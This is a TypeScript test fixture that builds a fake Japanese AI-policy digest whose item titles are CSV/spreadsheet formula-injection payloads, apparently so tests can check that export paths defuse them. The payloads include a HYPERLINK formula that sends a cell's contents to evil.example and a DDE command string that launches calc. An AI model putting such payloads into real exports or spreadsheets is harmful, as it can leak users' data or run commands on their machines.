import { tempData } from '../helpers.js';

/**
 * Item titles a hostile document could carry: each starts like a spreadsheet formula (OWASP's
 * list; the full-width ＝ is read as = by the parser's NFKC), and each names the same topic so one
 * question finds them all.
 */
export const FORMULA_TITLES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"AIガイドラインを公開")',
  "+cmd|' /C calc'!A0 AIガイドラインを改訂",
  '-2+3 AIガイドラインの意見募集',
  '@SUM(1+1) AIガイドラインの説明会',
  '＝1+1 AIガイドラインの英語版',
];

/** The question that finds every crafted item. */
export const CRAFTED_QUESTION = 'ガイドライン';

/**
 * A throwaway data/ with one digest (numbered layout) whose item titles are {@link FORMULA_TITLES},
 * for tests that run the real export paths over a document nobody should trust.
 */
export function craftedCorpus(): string {
  const items = FORMULA_TITLES.map(
    (title, i) =>
      `  ${i + 1}. (2026/01/${String(i + 5).padStart(2, '0')})${title}\n    2026年1月、AIガイドラインについて発表した。\n    https://example.org/crafted/${i + 1}\n`,
  ).join('\n');
  return tempData({
    'sources.yml': [
      'documents:',
      '  - id: digest-2026-01',
      '    path: digests/2026-01.txt',
      '    title: AI政策動向マンスリー情報 2026年1月',
      '    kind: digest',
      '    layout: digest-numbered',
      '',
    ].join('\n'),
    'digests/2026-01.txt': `AI政策動向マンスリー情報\n\n日本AISIの活動(1月1日~1月31日)\n\n${items}`,
  });
}
